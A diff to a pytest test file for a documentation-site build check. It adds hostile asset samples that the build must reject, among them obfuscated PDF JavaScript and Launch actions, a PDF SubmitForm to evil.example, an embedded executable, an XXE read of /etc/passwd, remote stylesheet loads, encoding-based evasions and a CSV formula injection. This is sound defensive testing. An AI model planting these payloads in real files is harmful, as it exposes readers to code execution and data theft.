@@ -1,5 +1,7 @@
 """Hostile files and names: a finding with the file, or a build that stops with both names."""
 
+import zlib
+
 import pytest
 
 from kennisbank.building.artifacts import Artifact
@@ -17,7 +19,16 @@ SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/19
 _BOMB = "<g id='l0'><path d='M0 0'/></g>" + "".join(
     "<g id='l{}'>{}</g>".format(layer, f"<use href='#l{layer - 1}'/>" * 10) for layer in range(1, 6)
 )
+# A browser sees by the zeros how these are written, and then reads what no pattern finds.
+_DOCTYPE = """<!DOCTYPE svg [<!ENTITY % a "<!ATTLIST svg onload CDATA 'alert(1)'>"> %a;]>"""
+_ENCODED = '<?xml version="1.0" encoding="{}"?>{}' + SVG.format("<title>é</title>")
 PAGE = "---\ntitle: A\ndescription: Over A.\n---\n\n# A\n\nTekst.\n"
+
+
+def _pdf_with(head: bytes, objects: bytes) -> bytes:
+    """A PDF with objects that are packed in a stream, as most programs do."""
+    packed = zlib.compress(objects)
+    return b"%PDF-1.7\n1 0 obj<<" + head + b"/Filter/FlateDecode>>stream\r\n" + packed + b"\nendstream endobj\n%%EOF"
 
 
 def codes(path: str, data: bytes | str) -> set[str]:
@@ -47,6 +58,19 @@ def codes(path: str, data: bytes | str) -> set[str]:
         ("docs/assets/x.woff2", b"wOF2\0\1\0\0\0\0\0\x0c<script>alert(1)</script>"),
         ("docs/assets/x.pdf", b"%PDF-1.7 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>> %%EOF"),
         ("docs/assets/x.pdf", b"%PDF-1.7 <</S/Launch/F(cmd.exe)>> %%EOF"),
+        ("docs/assets/x.pdf", b"%PDF-1.7 <</OpenAction<</S/J#61vaScript/#4aS(app.alert(1))>>>> %%EOF"),
+        ("docs/assets/x.pdf", b"%PDF-1.7 <</S /#4C#61unch /F(cmd.exe)>> %%EOF"),
+        ("docs/assets/x.pdf", b"%PDF-1.7 <</S/SubmitForm/F(https://evil.example)>> %%EOF"),
+        ("docs/assets/x.pdf", b"%PDF-1.7 <</AcroForm<</XFA 3 0 R>>>> %%EOF"),
+        ("docs/assets/x.pdf", b"%PDF-1.7 <</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream %%EOF"),
+        ("docs/assets/x.pdf", _pdf_with(b"/Type/ObjStm/N 1/First 4", b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
+        ("docs/assets/x.pdf", _pdf_with(b"/Type/Obj#53tm/N 1", b"1 0 <</S/J#61vaScript/J#53(app.alert(1))>>")),
+        ("docs/assets/x.pdf", _pdf_with(b"/N 1/First 4", b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
+        ("docs/assets/x.pdf", _pdf_with(b"/Type/ObjStm/N 1/First 4", b" " * 40_000_000)),
+        ("docs/assets/x.pdf", b"%PDF-1.7 1 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\n\x80\x0b\nendstream %%EOF"),
+        ("docs/assets/stylesheets/site/x.svg", SVG.format("<title>} html { display: none } x {</title>")),
+        ("docs/assets/stylesheets/site/x.txt", "html { display: none }"),
+        ("docs/assets/javascripts/x.png", PNG),
         ("docs/model/kwaad.ods", b"MZ\x90\0"),
         ("docs/model/kwaad.csv", "=cmd|' /C calc'!A0"),
         ("docs/model/sjabloon-case.txt", b"MZ\x90\0"),
@@ -88,6 +112,13 @@ def codes(path: str, data: bytes | str) -> set[str]:
         ),
         ("docs/assets/x.svg", f"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>{SVG.format('&a;')}"),
         ("docs/assets/x.svg", f"<?xml-stylesheet href='//evil.example/x.css'?>{SVG.format('')}"),
+        *(
+            ("docs/assets/x.svg", _ENCODED.format(name, more).encode(name))
+            for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32-le", "iso-8859-1", "cp1252")
+            for more in ("", _DOCTYPE, "<?xml-stylesheet href='//evil.example/x.css'?>")
+        ),
+        ("docs/assets/x.svg", _ENCODED.format("iso-2022-jp", "")),
+        ("docs/assets/x.svg", _ENCODED.format("utf-7", "")),
     ],
 )
 def test_only_known_files_that_do_nothing_go_to_the_site(path: str, data: bytes | str) -> None:
@@ -99,6 +130,9 @@ def test_only_known_files_that_do_nothing_go_to_the_site(path: str, data: bytes 
     [
         ("docs/assets/x.png", PNG),
         ("docs/assets/x.pdf", b"%PDF-1.7 <</OpenAction[3 0 R/Fit]>> %%EOF\n"),
+        ("docs/assets/x.pdf", _pdf_with(b"/Type/ObjStm/N 1/First 4", b"1 0 <</Type/Page/Contents 2 0 R>>")),
+        ("docs/assets/x.svg", _ENCODED.format("UTF-8", "")),
+        ("docs/assets/x.svg", "\ufeff" + SVG.format("")),
         ("docs/assets/x.gif", b"GIF89a\x3b"),
         ("docs/assets/x.jpg", b"\xff\xd8\xff\xd9"),
         ("docs/assets/x.svg", SVG.format("<g transform='translate(1 2) rotate(3)' style='fill: rgb(1, 2, 3)'/>")),
